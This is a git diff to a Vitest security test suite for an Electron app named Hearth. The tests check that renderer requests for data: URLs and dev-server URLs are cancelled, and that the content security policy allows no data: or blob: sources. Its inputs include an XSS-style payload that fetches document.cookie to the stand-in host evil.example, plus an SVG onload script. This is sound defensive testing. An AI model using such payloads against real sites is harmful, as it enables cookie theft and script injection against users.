@@ -1,3 +1,5 @@
+import { readFileSync } from 'node:fs'
+import { resolve } from 'node:path'
 import { describe, expect, it } from 'vitest'
 import {
   APP_ENTRY,
@@ -64,6 +66,30 @@ describe('threat: something in the renderer reaches the network (Hearth has none
     expect(shouldCancelRequest('app://hearth/assets/index.js')).toBe(false)
     expect(shouldCancelRequest('app://evil/assets/index.js')).toBe(true)
   })
+  it('cancels data: URLs of every kind too, as the README promises (the renderer uses none)', () => {
+    for (const url of [
+      'data:text/html,<script>fetch("https://evil.example/?"+document.cookie)</script>',
+      'data:text/javascript;base64,YWxlcnQoMSk=',
+      'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
+      'data:image/png;base64,iVBORw0KGgo=',
+      'data:font/woff2;base64,d09GMg==',
+      'data:,',
+      'DATA:text/plain,upper-case scheme',
+      ' data:text/plain,leading space',
+      'data:text/html;charset=utf-8,' + 'x'.repeat(5000),
+    ])
+      expect(shouldCancelRequest(url), url.slice(0, 40)).toBe(true)
+    expect(shouldCancelRequest('data:text/html,x', 'http://localhost:5173')).toBe(true)
+  })
+  it('lets the inspector and the dev server through only in development, never in the packaged app', () => {
+    expect(shouldCancelRequest('devtools://devtools/bundled/inspector.html')).toBe(true)
+    expect(shouldCancelRequest('devtools://devtools/bundled/inspector.html', 'http://localhost:5173')).toBe(false)
+    expect(shouldCancelRequest('http://localhost:5173/src/main.tsx')).toBe(true)
+    expect(shouldCancelRequest('http://localhost:5173/src/main.tsx', 'http://localhost:5173')).toBe(false)
+    expect(shouldCancelRequest('ws://localhost:5173/', 'http://localhost:5173')).toBe(false)
+    expect(shouldCancelRequest('http://localhost:5174/x.js', 'http://localhost:5173')).toBe(true)
+    expect(shouldCancelRequest('http://evil.example/x.js', 'http://evil.example')).toBe(true)
+  })
 })
 
 describe('threat: a foreign frame sends IPC', () => {
@@ -121,7 +147,13 @@ describe('the window is created with the Electron security checklist settings', 
     expect(csp).toContain("default-src 'none'")
     expect(csp).toContain("script-src 'self'")
     expect(csp).toContain("connect-src 'none'")
-    expect(csp).not.toMatch(/unsafe-inline|unsafe-eval|https?:/)
+    expect(csp).not.toMatch(/unsafe-inline|unsafe-eval|https?:|data:|blob:/)
     expect(isAppUrl(APP_ENTRY)).toBe(true)
+  })
+  it('keeps the page’s own CSP meta tag as strict: no data: or blob: sources there either', () => {
+    const html = readFileSync(resolve(import.meta.dirname, '../../../renderer/index.html'), 'utf8')
+    const meta = /http-equiv="Content-Security-Policy"\s+content="([^"]+)"/.exec(html)?.[1] ?? ''
+    expect(meta).toContain("default-src 'none'")
+    expect(meta).not.toMatch(/data:|blob:|unsafe-inline|unsafe-eval/)
   })
 })
